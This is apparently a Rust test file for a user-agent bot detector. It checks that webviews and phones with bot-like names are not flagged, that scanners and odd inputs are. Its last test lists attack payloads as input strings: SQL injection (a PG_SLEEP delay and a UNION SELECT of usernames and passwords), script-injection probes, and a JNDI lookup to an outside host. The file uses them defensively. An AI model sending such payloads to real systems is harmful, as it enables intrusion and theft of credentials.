//! Field cases from shared/cases/README.md (bot-010 .. bot-050) and the fault classes they show.

use palisade::bot::{Detector, MAX_UA_LEN};

fn ids(ua: &str) -> Vec<String> {
    Detector::builtin()
        .classify(ua)
        .ids
        .iter()
        .map(ToString::to_string)
        .collect()
}

#[test]
fn regression_bot_010_tiktok_webview_with_googleplay_channel_is_not_a_bot() {
    let ua = "Mozilla/5.0 (Linux; Android 10; SM-G973F Build/QQ3A.200805.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/85.0.4183.101 Mobile Safari/537.36 trill_2021806060 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/18.6.6 ByteLocale/fr ByteFullLocale/fr Region/FR";
    assert!(!Detector::builtin().is_bot(ua), "{:?}", ids(ua));
}

#[test]
fn app_tokens_containing_google_admin_watch_or_search_are_not_bots() {
    for ua in [
        "Mozilla/5.0 (Linux; Android 6.0.1; SM-G532M Build/MMB29T; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/88.0.4324.181 Mobile Safari/537.36 GoogleApp/12.4.9.23.arm",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 13_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/102.0.304944559 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 10; STK-L21 Build/HUAWEISTK-L21; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.186 Mobile Safari/537.36 HiSearch/22.0.6.315",
        "Mozilla/5.0 (Linux; Android 14; SM-R910 Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 SamsungWatch/1.0",
        "Mozilla/5.0 (Linux; Android 12; SM-G975N Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/90.0.4430.232 Whale/1.0.0.0 Crosswalk/26.90.3.21 Mobile Safari/537.36 NAVER(inapp; search; 1010; 11.11.3)",
    ] {
        assert!(!Detector::builtin().is_bot(ua), "{ua}: {:?}", ids(ua));
    }
}

#[test]
fn regression_bot_020_pixel_phone_model_is_not_a_bot() {
    let ua = "Mozilla/5.0 (Linux; Android 7.1; Pixel Build/NDE63P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.68 Mobile Safari/537.36";
    assert!(!Detector::builtin().is_bot(ua), "{:?}", ids(ua));
}

#[test]
fn phone_models_named_like_bots_are_not_bots() {
    for model in [
        "Cubot X30",
        "CUBOT_NOTE_S Build/LMY47I",
        "Spider 8",
        "IDbot553 Build/MRA58K",
        "XBot_Senior Build/O11019",
        "VR BOT 552",
        "C Bot Tab 100",
        "Pixel 2",
    ] {
        let ua = format!("Mozilla/5.0 (Linux; Android 8.1.0; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.157 Mobile Safari/537.36");
        assert!(!Detector::builtin().is_bot(&ua), "{ua}: {:?}", ids(&ua));
    }
}

#[test]
fn regression_bot_030_onetrust_appended_to_a_browser_ua_is_a_bot() {
    let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.199 Safari/537.36;OneTrust;";
    assert!(Detector::builtin().is_bot(ua));
    assert_eq!(ids(ua), ["ONETRUST_SCANNER"]);
}

#[test]
fn tools_appending_their_name_to_a_browser_ua_are_bots() {
    for (ua, id) in [
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36 CloudflareObservatory/1.0", "CLOUDFLARE_OBSERVATORY"),
        ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.96 Mobile Safari/537.36 (compatible; AcmeRender)", "UNKNOWN_BOT"),
    ] {
        assert_eq!(ids(ua), [id], "{ua}");
    }
}

#[test]
fn regression_bot_040_long_run_of_digits_after_chrome_is_linear_and_not_a_known_bot() {
    let ua = format!("Chrome/{}", "0".repeat(3000));
    let detector = Detector::builtin();
    let got = detector.classify(&ua);
    // Not a browser shape (no platform, longer than the cap), but no named bot either.
    assert_eq!(
        got.ids.iter().map(AsRef::as_ref).collect::<Vec<&str>>(),
        ["UNKNOWN_BOT"]
    );
    let mut bots = 0;
    for _ in 0..1000 {
        bots += usize::from(detector.is_bot(&ua));
    }
    assert_eq!(bots, 1000);
}

#[test]
fn regression_bot_050_iphone_os_followed_by_letters_is_answered() {
    let ua = format!("iphone os {}", "a".repeat(64));
    let detector = Detector::builtin();
    let verdict = detector.classify(&ua);
    for _ in 0..1000 {
        assert_eq!(detector.classify(&ua), verdict);
    }
    // Nothing in it is a known bot name.
    assert!(
        verdict.ids.iter().all(|id| id.starts_with("UNKNOWN_")),
        "{:?}",
        verdict.ids
    );
}

#[test]
fn hostile_inputs_all_get_a_verdict() {
    let detector = Detector::builtin();
    let huge = "Mozilla/5.0 ".to_owned() + &"(a; ".repeat(25_000);
    let multibyte = "é".repeat(MAX_UA_LEN);
    let cases: Vec<(String, bool)> = vec![
        (String::new(), true),
        ("   ".to_owned(), true),
        ("Mozilla/5.0\u{0}(Windows NT 10.0)".to_owned(), true),
        ("\u{7}\u{8}\u{1b}[31m".to_owned(), true),
        (huge, true),
        (multibyte, true),
    ];
    for (ua, expected) in cases {
        assert_eq!(
            detector.is_bot(&ua),
            expected,
            "{:?}",
            ua.chars().take(40).collect::<String>()
        );
        assert_eq!(detector.classify(&ua).bot, expected);
    }
}

#[test]
fn a_bot_token_past_the_inspection_cap_still_yields_a_bot_verdict() {
    let ua = format!(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) {} Googlebot/2.1",
        "x".repeat(2 * MAX_UA_LEN)
    );
    assert!(Detector::builtin().is_bot(&ua));
}

#[test]
fn common_browsers_are_not_bots() {
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 Mobile Safari/537.36",
        "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
    ] {
        assert!(!Detector::builtin().is_bot(ua), "{ua}: {:?}", ids(ua));
    }
}

#[test]
fn sql_text_alone_is_left_to_the_shield_while_markup_probes_are_bots() {
    // Real browser logs (isbot's browser fixtures, Matomo's device list) hold UAs overwritten
    // with SQL; the client behind them is unknown, and the shield judges the text itself.
    for ua in [
        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Win64; x64; Trident/5.0)69706759&#039;%20or%208056%3d8057--%20",
        "1 UNION SELECT username, password FROM users",
    ] {
        assert!(!Detector::builtin().is_bot(ua), "{ua}: {:?}", ids(ua));
    }
    // Markup and script probes are written by scanners, which still count as bots.
    for ua in [
        "<script>alert(1)</script>",
        "javascript:/*&lt;/script&gt;&lt;svg/onload=alert(1)",
        "${jndi:ldap://x.example/a}",
    ] {
        assert!(Detector::builtin().is_bot(ua), "{ua}");
    }
}
